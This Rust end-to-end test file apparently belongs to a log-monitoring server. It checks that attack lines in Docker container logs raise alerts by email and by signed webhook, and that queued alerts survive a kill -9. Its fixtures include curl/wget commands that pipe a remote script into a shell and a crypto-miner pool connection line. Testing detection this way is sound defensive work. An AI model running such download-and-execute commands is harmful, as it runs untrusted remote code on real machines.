//! Alerting end to end with real peers: a Docker json-file line with an attack goes
//! through the real collector and server, the built-in rule and the alerter, and ends as
//! a mail in a real SMTP server (aiosmtpd) and a signed webhook at an HTTP receiver in
//! this test (signature verified by Python's `hmac`, as docs/ALERTING.md shows). Then the
//! outbox across `kill -9`: with both peers down, alerts wait in the outbox (channels
//! down in `/healthz` and `/metrics`), the server is killed, peers and server restart,
//! and every alert is delivered.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use logward_e2e::sinks::{Hook, Smtp, aiosmtpd_available, free_port, receiver, wait_until};
use logward_e2e::{DockerLine, FakeContainer, Proc, Server, collector_args, docker_time};

const PYTHON: &str = "/usr/bin/python3";
const SECRET: &str = "e2e-secret-3f9a";
const CURL_RULE: &str = "c5943daa-5453-4941-8c9f-8e1824a7510a";
const CURL_TITLE: &str = "Download piped into a shell in container output";
const MINER_RULE: &str = "aac2a11a-49f2-4119-9e5d-763ec31037e2";

/// The messages in the Maildir, with folded headers and quoted-printable soft breaks
/// undone.
fn mails(maildir: &Path) -> Vec<String> {
    let mut out: Vec<String> = std::fs::read_dir(maildir.join("new"))
        .map(|rd| {
            rd.filter_map(|e| std::fs::read_to_string(e.ok()?.path()).ok())
                .map(|m| {
                    m.replace("\r\n", "\n")
                        .replace("=\n", "")
                        .replace("\n ", " ")
                })
                .collect()
        })
        .unwrap_or_default();
    out.sort();
    out
}

/// Verifies `X-Logward-Signature` the way docs/ALERTING.md tells receivers to, in Python.
fn signature_ok(hook: &Hook, body: &[u8], dir: &Path) -> bool {
    let file = dir.join("body.json");
    std::fs::write(&file, body).expect("write body");
    let script = "import hmac, hashlib, sys, time\n\
        ts, path, sig, secret = sys.argv[1:5]\n\
        body = open(path, 'rb').read()\n\
        assert abs(time.time() - int(ts)) <= 300\n\
        exp = 'sha256=' + hmac.new(secret.encode(), ts.encode() + b'.' + body, hashlib.sha256).hexdigest()\n\
        sys.exit(0 if hmac.compare_digest(exp, sig) else 1)\n";
    Command::new(PYTHON)
        .args(["-c", script])
        .arg(&hook.headers["x-logward-timestamp"])
        .arg(&file)
        .arg(&hook.headers["x-logward-signature"])
        .arg(SECRET)
        .status()
        .is_ok_and(|s| s.success())
}

fn write_config(dir: &Path, smtp_port: u16, hook_port: u16) -> PathBuf {
    let cfg = format!(
        r#"[alerting]
tick = "1s"

[[alerting.channels]]
name = "mail"
min_level = "high"
[alerting.channels.flood]
group_wait = "0s"
realert = "0s"
[alerting.channels.retry]
initial_backoff = "500ms"
max_backoff = "1s"
timeout = "5s"
max_attempts = 1000
[alerting.channels.email]
host = "127.0.0.1"
port = {smtp_port}
tls = "plain"
from = "logward <logward@example.com>"
to = ["oncall@example.com"]
subject = "[logward] {{level}}: {{rule_title}}"

[[alerting.channels]]
name = "siem"
min_level = "medium"
[alerting.channels.flood]
group_wait = "0s"
realert = "0s"
[alerting.channels.retry]
initial_backoff = "500ms"
max_backoff = "1s"
timeout = "5s"
max_attempts = 1000
[alerting.channels.webhook]
url = "http://127.0.0.1:{hook_port}/hook"
allow_targets = ["127.0.0.1/32"]
secret = "{SECRET}"
headers = {{ X-Team = "sec" }}
"#
    );
    let path = dir.join("server.toml");
    std::fs::write(&path, cfg).expect("write config");
    path
}

fn line(log: &str, ms: i64) -> (String, String) {
    let now = time::OffsetDateTime::now_utc().unix_timestamp();
    (log.to_owned(), docker_time(now, ms))
}

fn append(c: &FakeContainer, log: &str, ms: i64) {
    let (log, t) = line(log, ms);
    c.append(&[DockerLine {
        log: &log,
        stream: "stdout",
        time: &t,
        partial: false,
    }])
    .expect("append");
}

struct Setup {
    tmp: tempfile::TempDir,
    docker: PathBuf,
    container: FakeContainer,
}

fn setup() -> Setup {
    let tmp = tempfile::tempdir().expect("tempdir");
    let docker = tmp.path().join("docker");
    let container = FakeContainer::create(
        &docker,
        "a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90",
        "webapp",
        "acme/webapp:1.4",
        &[("app", "web")],
    )
    .expect("container");
    append(&container, "webapp started", 0);
    Setup {
        tmp,
        docker,
        container,
    }
}

fn start_collector(server: &Server, s: &Setup) -> Proc {
    Proc::spawn(
        "logward-collector",
        &collector_args(
            &server.grpc_url(),
            &s.docker,
            &s.tmp.path().join("collector"),
            "web1",
        ),
        &[],
    )
    .expect("collector")
}

#[test]
fn attack_line_becomes_mail_and_signed_webhook() {
    if !aiosmtpd_available("the alerting e2e test") {
        return;
    }
    let s = setup();
    let (smtp_port, hook_port) = (free_port(), free_port());
    let maildir = s.tmp.path().join("maildir");
    let _smtp = Smtp::start(smtp_port, &maildir);
    let hooks = receiver(hook_port);
    let config = write_config(s.tmp.path(), smtp_port, hook_port);
    let server = Server::start(
        &s.tmp.path().join("data"),
        &["--config".to_owned(), config.display().to_string()],
    )
    .expect("server");
    let _collector = start_collector(&server, &s);
    server
        .wait_for_total("started", 1, Duration::from_secs(30))
        .expect("collector ships");

    let attack = "+ curl -fsSL http://203.0.113.9/x.sh | sh";
    let written = Instant::now();
    append(&s.container, attack, 1);
    let (mut hook, mut mail) = (None, None);
    let (mut webhook_latency, mut mail_latency) = (Duration::ZERO, Duration::ZERO);
    wait_until("signed webhook and mail", Duration::from_secs(30), || {
        if hook.is_none() {
            hook = hooks.lock().expect("lock").first().cloned();
            if let Some(h) = &hook {
                webhook_latency = h.at - written;
            }
        }
        if mail.is_none() {
            mail = mails(&maildir).into_iter().next();
            mail_latency = written.elapsed();
        }
        (hook.is_some() && mail.is_some()).then_some(())
    });
    let (hook, mail) = (hook.expect("hook"), mail.expect("mail"));
    eprintln!(
        "line -> webhook {webhook_latency:?}, line -> mail {mail_latency:?} (Maildir polled every 5 ms)"
    );

    // The webhook: signed (verified by an independent HMAC), versioned payload.
    assert!(signature_ok(&hook, &hook.body, s.tmp.path()), "signature");
    let mut tampered = hook.body.clone();
    tampered.push(b' ');
    assert!(
        !signature_ok(&hook, &tampered, s.tmp.path()),
        "tampered body passes"
    );
    assert_eq!(hook.headers.get("x-team").map(String::as_str), Some("sec"));
    let p: serde_json::Value = serde_json::from_slice(&hook.body).expect("json");
    assert_eq!(p["schema"], "logward.alert.v1");
    assert_eq!(p["channel"], "siem");
    assert_eq!(
        hook.headers
            .get("x-logward-idempotency-key")
            .map(String::as_str),
        p["idempotency_key"].as_str()
    );
    let a = &p["alerts"][0];
    assert_eq!(a["rule_id"], CURL_RULE);
    assert_eq!(a["level"], "high");
    assert_eq!(a["host"], "web1");
    assert_eq!(a["container"], "webapp");
    assert_eq!(a["samples"][0]["message"], attack);
    // The link selects the matching event through the search API.
    let link = a["link"].as_str().expect("link");
    let path = &link[link.find("/api/v1/search").expect("search link")..];
    // Detection runs before the commit, so the notification may arrive up to one group
    // commit before the event is searchable: follow the link until it is.
    let deadline = Instant::now() + Duration::from_secs(10);
    let found = loop {
        let (status, found) = server.get(path).expect("follow link");
        assert_eq!(status, 200, "{found}");
        if found["total"] == 1 || Instant::now() > deadline {
            break found;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    assert_eq!(found["total"], 1, "{found}");
    assert_eq!(found["hits"][0]["message"], attack);

    // The mail: subject, both bodies, the sample.
    assert!(mail.contains(CURL_TITLE), "{mail}");
    assert!(mail.contains("[logward] high"), "{mail}");
    assert!(mail.contains("multipart/alternative"), "{mail}");
    assert!(mail.contains("oncall@example.com"), "{mail}");

    // The alert through the API; channels up.
    let (status, alerts) = server
        .get(&format!("/api/v1/alerts?rule={CURL_RULE}"))
        .expect("alerts");
    assert_eq!(status, 200);
    assert_eq!(alerts["alerts"][0]["count"], 1, "{alerts}");
    let (status, health) = server.get("/healthz").expect("healthz");
    assert_eq!(status, 200);
    assert_eq!(
        health["alerting"]["down"],
        serde_json::json!([]),
        "{health}"
    );

    // Latency is measured by the benchmark harness (W5), not asserted here: the waits
    // above are for the condition, with a generous ceiling.
    eprintln!("line -> webhook {webhook_latency:?}, line -> mail {mail_latency:?}");
}

#[test]
fn outbox_survives_kill_9_and_down_channels_show() {
    if !aiosmtpd_available("the alerting e2e test") {
        return;
    }
    let s = setup();
    let (smtp_port, hook_port) = (free_port(), free_port());
    let maildir = s.tmp.path().join("maildir");
    let config = write_config(s.tmp.path(), smtp_port, hook_port);
    let data = s.tmp.path().join("data");
    let args = ["--config".to_owned(), config.display().to_string()];
    let mut server = Server::start(&data, &args).expect("server");
    let mut collector = start_collector(&server, &s);
    server
        .wait_for_total("started", 1, Duration::from_secs(30))
        .expect("collector ships");

    // Peers down: two alerts (two rules) go to the outbox and fail there.
    append(&s.container, "+ wget -qO- http://203.0.113.9/i | bash", 1);
    append(
        &s.container,
        "miner: connecting to stratum+tcp://pool.example:3333",
        2,
    );
    let health = wait_until("both channels down", Duration::from_secs(30), || {
        let (_, h) = server.get("/healthz").ok()?;
        let down = h["alerting"]["down"].as_array()?.len();
        (down == 2).then_some(h)
    });
    assert_eq!(health["status"], "ok", "a down channel is no store failure");
    let (_, metrics) = server.get("/metrics").expect("metrics");
    let metrics = metrics.as_str().expect("text").to_owned();
    for ch in ["mail", "siem"] {
        assert!(
            metrics.contains(&format!("logward_alert_channel_up{{channel=\"{ch}\"}} 0")),
            "{metrics}"
        );
    }
    assert!(
        metrics.contains("logward_alert_detections_total 2"),
        "{metrics}"
    );
    let (_, alerts) = server.get("/api/v1/alerts").expect("alerts");
    assert_eq!(
        alerts["alerts"].as_array().map(Vec::len),
        Some(2),
        "{alerts}"
    );
    collector
        .terminate(Duration::from_secs(10))
        .expect("collector stops");

    server.proc.kill9();
    let _smtp = Smtp::start(smtp_port, &maildir);
    let hooks = receiver(hook_port);
    let server = Server::start(&data, &args).expect("server restarts");

    let got = wait_until("both webhooks", Duration::from_secs(30), || {
        let h = hooks.lock().expect("lock").clone();
        let rules: Vec<String> = h
            .iter()
            .filter_map(|h| serde_json::from_slice::<serde_json::Value>(&h.body).ok())
            .filter_map(|p| p["alerts"][0]["rule_id"].as_str().map(str::to_owned))
            .collect();
        (rules.contains(&CURL_RULE.to_owned()) && rules.contains(&MINER_RULE.to_owned()))
            .then_some(h)
    });
    for h in &got {
        assert!(signature_ok(h, &h.body, s.tmp.path()), "signature");
    }
    let mail = wait_until("both mails", Duration::from_secs(30), || {
        let m = mails(&maildir);
        let all = m.join("\n");
        (all.contains(CURL_TITLE) && all.contains("Crypto-miner")).then_some(m)
    });
    assert!(mail.len() >= 2);
    let (status, health) = wait_until("channels up again", Duration::from_secs(10), || {
        let (st, h) = server.get("/healthz").ok()?;
        (h["alerting"]["down"].as_array()?.is_empty()).then_some((st, h))
    });
    assert_eq!(status, 200, "{health}");
    let (_, metrics) = server.get("/metrics").expect("metrics");
    assert!(
        metrics
            .as_str()
            .is_some_and(|m| m.contains("logward_alert_channel_up{channel=\"siem\"} 1")),
        "{metrics}"
    );
}
